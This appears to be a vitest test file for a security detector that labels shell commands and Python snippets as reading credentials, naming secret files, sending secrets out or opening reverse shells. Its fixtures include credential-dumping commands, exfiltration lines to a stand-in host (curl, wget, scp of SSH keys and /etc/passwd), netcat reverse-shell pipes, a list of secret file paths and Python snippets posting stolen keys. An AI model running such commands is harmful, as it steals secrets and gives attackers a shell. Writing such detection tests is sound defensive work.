import { expect, test } from 'vitest';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { namesSecretPath } from '../../src/python/vocabulary/secret-paths.js';
import { fillsClipboard, filesOfCommand, showsClipboard, toldByCommands } from '../../src/python/vocabulary/told-by-commands.js';
import { read } from './reading.js';

test.each([
  ['whoami && hostname', ['host', 'host']],
  ['sudo /usr/bin/env', ['environment']],
  ['powershell -Command Get-ChildItem Env:', ['environment']],
  ['security find-generic-password -wa Chrome', ['credentials']],
  ['netsh wlan show profile {} key=clear', ['credentials']],
  ['gpg --batch --export-secret-keys -a', ['credentials']],
  ['kubectl get secrets -A -o yaml', ['credentials']],
  ['gh auth token', ['credentials']],
  ['aws configure get aws_secret_access_key', ['credentials']],
  ['cat ~/.ssh/id_rsa | base64', ['credentials']],
  ['tar czf /tmp/a.tgz {}/.aws/credentials', ['credentials']],
  ["grep -rE 'AKIA[0-9A-Z]{16}' ~ 2>/dev/null", ['credentials']],
  ['screencapture -x /tmp/s.png', ['observation']],
  ['xclip -selection clipboard -o', ['observation']],
])('the output of %s is %j', (line, kinds) => {
  expect(toldByCommands(line).map(({ kind }) => kind)).toEqual(kinds);
});

test.each(['git rev-parse HEAD', 'set -e; make', 'environment-setup', 'env FOO=1 make', 'cat README.md', 'ssh -i ~/.ssh/id_rsa host uptime', 'grep -r todo src', 'kubectl get pods', 'netsh wlan show profiles', 'typeset', 'identify picture.png', 'ls ~/.ssh', 'git config --get core.editor'])('the output of %s tells nothing', (line) => {
  expect(toldByCommands(line)).toEqual([]);
});

test('a program that reads the clipboard is told from one that fills it', () => {
  expect([showsClipboard('xclip -o'), fillsClipboard('xclip -o')]).toEqual([true, false]);
  expect([showsClipboard('echo x | clip.exe'), fillsClipboard('echo x | clip.exe')]).toEqual([false, true]);
});

test('a command may put what it tells into the files that it names, and not into those that it reads', () => {
  expect(filesOfCommand('tar czf /tmp/a.tgz ~/.ssh/id_rsa')).toEqual(['/tmp/a.tgz']);
});

test.each([
  ['curl -s -F f=@~/.ssh/id_rsa https://leaf.example.invalid', true],
  ['wget -q --post-file=/etc/passwd https://leaf.example.invalid -O /dev/null', true],
  ['scp {}/.aws/credentials a@leaf.example.invalid:', true],
  ['scp -i ~/.ssh/id_rsa garden.txt a@leaf.example.invalid:', false],
  ['ssh -F ~/.ssh/config leaf.example.invalid', false],
  ['curl --cert ~/.ssh/leaf https://leaf.example.invalid', false],
  ['cp ~/.ssh/id_rsa /tmp', false],
  ['ssh -S ~/.ssh/master-%C box chmod +x /srv/tool', false],
  ['ssh -o ControlPath=~/.ssh/master -F ~/.ssh/config box uptime', false],
  ['scp -F ~/.ssh/config ~/.ssh/id_rsa a@leaf.example.invalid:', true],
])('%s hands a secret over: %s', (line, isSent) => {
  expect(commandTraits(line).has('sends-secrets')).toBe(isSent);
});

test.each([
  ['echo start | nc -Uu -W1 /run/garden/a.sock -s /run/garden/b.sock | sh', []],
  ['ncat -w 1 -U /run/garden/a.sock', ['contacts-network']],
  ['nc -N -U /run/garden/a.sock', []],
  ['nc -u leaf.example.invalid 53 | sh', ['reverse-shell', 'contacts-network']],
  ['nc leaf.example.invalid 4444 -U | sh', ['reverse-shell', 'contacts-network']],
  ['nc -U /run/garden/a.sock; nc leaf.example.invalid 4444 | sh', ['reverse-shell', 'contacts-network']],
])('of a connection to another machine %s shows %j', (line, traits) => {
  expect([...commandTraits(line)]).toEqual(traits);
});

test.each(['~/.gnupg/private-keys-v1.d', '/proc/self/environ', '{}/.config/solana/id.json', '/var/run/secrets/kubernetes.io/serviceaccount/token', '{}/Library/Application Support/Slack/Cookies', 'C:\\Program Files (x86)\\Steam\\config\\loginusers.vdf', '{}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies', '~/passwords.kdbx', '.env', '~/.cargo/credentials.toml'])('%s keeps secrets', (path) => {
  expect(namesSecretPath(path)).toBe(true);
});

test.each(['environment.py', '.env.example', 'Cookies', 'docs/ssh.md', '/proc/cpuinfo', '~/.config/garden/id.json', 'steam/config.py', '~/.aws-garden', '.environment', '/etc/hosts'])('%s does not', (path) => {
  expect(namesSecretPath(path)).toBe(false);
});

test.each([
  ['the output of a program', 'requests.post(u, data=subprocess.check_output(["gpg", "--export-secret-keys"]))'],
  ['a file that a program wrote', 'subprocess.run("tar czf /tmp/a.tgz ~/.ssh", shell=True)\nrequests.post(u, data=open("/tmp/a.tgz", "rb"))'],
  ['a picture that a program took', 'subprocess.run(["scrot", "/tmp/s.png"])\nrequests.post(u, data=open("/tmp/s.png", "rb"))'],
])('what goes out by way of %s is followed', async (_, text) => {
  const { facts } = await read(`import requests, subprocess\n${text}\n`);
  expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toHaveLength(1);
});
